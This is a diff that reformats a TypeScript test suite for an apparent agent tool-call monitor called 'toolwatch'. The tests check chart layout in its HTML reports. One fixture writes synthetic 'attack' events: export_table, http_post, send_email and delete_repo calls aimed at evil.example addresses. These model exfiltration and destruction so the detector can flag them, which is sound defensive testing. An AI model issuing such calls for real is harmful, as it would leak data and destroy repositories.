@@ -15,10 +15,25 @@ import { renderHtmlReport } from "../../js/report/html.js";
 const ROOT = join(__dirname, "..", "..");
 const BIN = join(ROOT, "bin", "toolwatch.mjs");
 
-interface Box { x: number; y: number; w: number; h: number }
+interface Box {
+  x: number;
+  y: number;
+  w: number;
+  h: number;
+}
 interface Layout {
   /** per svg: its viewBox size, and every text's box in svg units */
-  svgs: Array<{ cls: string; w: number; h: number; texts: Array<Box & { text: string; cls: string }>; dots: Box[]; frame: Box | null; windows: Box[]; dashed: number; curves: number }>;
+  svgs: Array<{
+    cls: string;
+    w: number;
+    h: number;
+    texts: Array<Box & { text: string; cls: string }>;
+    dots: Box[];
+    frame: Box | null;
+    windows: Box[];
+    dashed: number;
+    curves: number;
+  }>;
   band: boolean;
 }
 
@@ -53,7 +68,11 @@ async function layout(html: string): Promise<Layout> {
           cls: svg.getAttribute("class") ?? "",
           w: vb.width,
           h: vb.height,
-          texts: [...svg.querySelectorAll("text")].map((t) => ({ ...box(t), text: t.textContent ?? "", cls: t.getAttribute("class") ?? "" })),
+          texts: [...svg.querySelectorAll("text")].map((t) => ({
+            ...box(t),
+            text: t.textContent ?? "",
+            cls: t.getAttribute("class") ?? "",
+          })),
           dots: [...svg.querySelectorAll("circle.dot")].map((c) => box(c)),
           frame: svg.querySelector("rect.frame") ? box(svg.querySelector("rect.frame")!) : null,
           windows: [...svg.querySelectorAll("rect.window")].map((r) => box(r)),
@@ -84,7 +103,8 @@ function expectClean(l: Layout) {
     }
     if (s.cls.startsWith("curve-") && s.frame) {
       // legends sit under the plot's frame (and its axis label), never on the curves
-      for (const t of s.texts.filter((x) => x.cls.includes("legend"))) expect(t.y, `legend "${t.text}"`).toBeGreaterThan(s.frame.y + s.frame.h);
+      for (const t of s.texts.filter((x) => x.cls.includes("legend")))
+        expect(t.y, `legend "${t.text}"`).toBeGreaterThan(s.frame.y + s.frame.h);
     }
   }
 }
@@ -95,13 +115,31 @@ describe("report pictures", () => {
     const span = 26 * 3600_000;
     const lines: string[] = [];
     for (let i = 0; i < 300; i++) {
-      lines.push(JSON.stringify({ time: new Date(t0 + (i * span) / 310).toISOString(), tenant: "acme", principal: i % 2 ? "alice" : "bob", tool: ["read_file", "search_docs", "list_files"][i % 3], args: { q: `v${i % 4}` }, label: "benign" }));
+      lines.push(
+        JSON.stringify({
+          time: new Date(t0 + (i * span) / 310).toISOString(),
+          tenant: "acme",
+          principal: i % 2 ? "alice" : "bob",
+          tool: ["read_file", "search_docs", "list_files"][i % 3],
+          args: { q: `v${i % 4}` },
+          label: "benign",
+        }),
+      );
     }
     ["export_table", "http_post", "send_email", "delete_repo"].forEach((tool, k) => {
-      lines.push(JSON.stringify({ time: new Date(t0 + span - 3600_000 + k * 60_000).toISOString(), tenant: "acme", principal: "alice", tool, args: { to: `x${k}@evil.example` }, label: "attack" }));
+      lines.push(
+        JSON.stringify({
+          time: new Date(t0 + span - 3600_000 + k * 60_000).toISOString(),
+          tenant: "acme",
+          principal: "alice",
+          tool,
+          args: { to: `x${k}@evil.example` },
+          label: "attack",
+        }),
+      );
     });
     const events = join(dir, "events.jsonl");
-    writeFileSync(events, lines.join("\n") + "\n");
+    writeFileSync(events, `${lines.join("\n")}\n`);
     const html = join(dir, "replay.html");
     const r = spawnSync(process.execPath, [BIN, "replay", events, "--html", html, "--quiet"], { encoding: "utf8" });
     expect(r.status, r.stderr).toBe(0);
@@ -122,18 +160,58 @@ describe("report pictures", () => {
   }, 120_000);
 
   it("renderHtmlReport: coinciding curves both show, legends under the plots, edge points clear of labels", async () => {
-    const pr: [number, number][] = [[0.1, 1], [0.45, 0.97], [0.5, 0.78], [0.9, 0.48], [1, 0.15]];
-    const roc: [number, number][] = [[0, 0], [0, 0.4], [0.2, 0.9], [1, 1]];
-    const l = await layout(renderHtmlReport({
-      title: "fixture",
-      curves: [{ title: "c", items: [
-        { name: "toolwatch (default config)", pr, roc, prAuc: 0.78, rocAuc: 0.93 },
-        { name: "toolwatch (minCalls 1)", pr, roc, prAuc: 0.78, rocAuc: 0.93 },
-        { name: "prior art (bench/prior-art.ts)", pr: [[0.01, 0.5], [0.5, 0.4], [1, 0.15]], roc: [[0, 0], [0.5, 0.9], [1, 1]], prAuc: 0.39, rocAuc: 0.78 },
-      ] }],
-      // calls right at the frame's right edge, at the thresholds' height: where the labels used to be drawn
-      entities: [{ label: "calls", xAxis: "call", warn: 0.5, block: 0.8, points: Array.from({ length: 14 }, (_, i) => ({ x: i, risk: i >= 12 ? (i === 12 ? 0.81 : 0.52) : 0 })) }],
-    }));
+    const pr: [number, number][] = [
+      [0.1, 1],
+      [0.45, 0.97],
+      [0.5, 0.78],
+      [0.9, 0.48],
+      [1, 0.15],
+    ];
+    const roc: [number, number][] = [
+      [0, 0],
+      [0, 0.4],
+      [0.2, 0.9],
+      [1, 1],
+    ];
+    const l = await layout(
+      renderHtmlReport({
+        title: "fixture",
+        curves: [
+          {
+            title: "c",
+            items: [
+              { name: "toolwatch (default config)", pr, roc, prAuc: 0.78, rocAuc: 0.93 },
+              { name: "toolwatch (minCalls 1)", pr, roc, prAuc: 0.78, rocAuc: 0.93 },
+              {
+                name: "prior art (bench/prior-art.ts)",
+                pr: [
+                  [0.01, 0.5],
+                  [0.5, 0.4],
+                  [1, 0.15],
+                ],
+                roc: [
+                  [0, 0],
+                  [0.5, 0.9],
+                  [1, 1],
+                ],
+                prAuc: 0.39,
+                rocAuc: 0.78,
+              },
+            ],
+          },
+        ],
+        // calls right at the frame's right edge, at the thresholds' height: where the labels used to be drawn
+        entities: [
+          {
+            label: "calls",
+            xAxis: "call",
+            warn: 0.5,
+            block: 0.8,
+            points: Array.from({ length: 14 }, (_, i) => ({ x: i, risk: i >= 12 ? (i === 12 ? 0.81 : 0.52) : 0 })),
+          },
+        ],
+      }),
+    );
     expectClean(l);
     for (const s of l.svgs.filter((x) => x.cls.startsWith("curve-"))) {
       expect(s.curves).toBe(3);
